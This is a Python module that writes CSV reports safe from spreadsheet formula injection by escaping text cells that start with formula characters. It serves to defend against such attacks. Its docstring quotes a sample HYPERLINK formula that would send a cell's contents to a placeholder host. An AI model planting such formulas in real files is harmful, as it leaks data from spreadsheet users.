"""CSV files that a spreadsheet cannot turn into formulas, written atomically.

Why: every text cell of a report can hold words typed in the field or imported from a bundle
(an area name, a reference, a place). A cell such as `=HYPERLINK("http://x/?"&A1)` or
`@SUM(...)` opened in Excel, LibreOffice or Google Sheets runs as a formula (CSV injection,
OWASP "CSV Injection"). So every *text* cell that starts with one of

    =  +  -  @  TAB  CR   and their fullwidth forms  ＝ ＋ － ＠

gets a leading apostrophe (`'`), which spreadsheets show as "this is text" and which a person
reading the file sees for what it is. Leading spaces do not protect a cell (some spreadsheets
trim them), so a cell starting with whitespace followed by one of those characters is escaped
too. Numbers that the report itself produces (counts, coordinates it computed) are written as
numbers, never escaped: a negative longitude must stay a number for the people who use the
data. Only `int`, `float` and `Decimal` values count as numbers; a number that arrives as text
is treated as text.

Files are UTF-8 without a byte-order mark, RFC 4180 (comma, CRLF, quotes doubled); the
reports write them through `fieldapp.review.reports.Staging` (temporary name, fsync, rename).
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence
from decimal import Decimal

# Characters a spreadsheet reads as the start of a formula (or a DDE command), with the
# fullwidth forms some spreadsheets normalise to them.
FORMULA_STARTS = frozenset("=+-@\t\r\uff1d\uff0b\uff0d\uff20")

Cell = str | int | float | Decimal | None


def safe_text(text: str) -> str:
    """The text of one cell, with an apostrophe in front when a spreadsheet would run it.

    Why not quote or strip instead: quoting is undone by every CSV reader before the
    spreadsheet sees the value, and stripping would change what the analyst wrote.
    """
    stripped = text.lstrip(" \u00a0\u3000")
    if stripped[:1] in FORMULA_STARTS and stripped:
        return "'" + text
    return text


def safe_cell(value: Cell) -> str:
    """One cell as written: numbers as numbers, None as empty, text made safe."""
    if value is None:
        return ""
    if isinstance(value, bool):  # a bool is an int in Python; never a report cell
        raise TypeError("a CSV cell cannot be a boolean")
    if isinstance(value, int | float | Decimal):
        return str(value)
    return safe_text(value)


def csv_bytes(rows: Iterable[Sequence[Cell]]) -> bytes:
    """The whole CSV text of `rows` (each cell through `safe_cell`), as UTF-8 bytes."""
    buffer = io.StringIO(newline="")
    writer = csv.writer(buffer, lineterminator="\r\n")
    for row in rows:
        writer.writerow([safe_cell(v) for v in row])
    return buffer.getvalue().encode("utf-8")
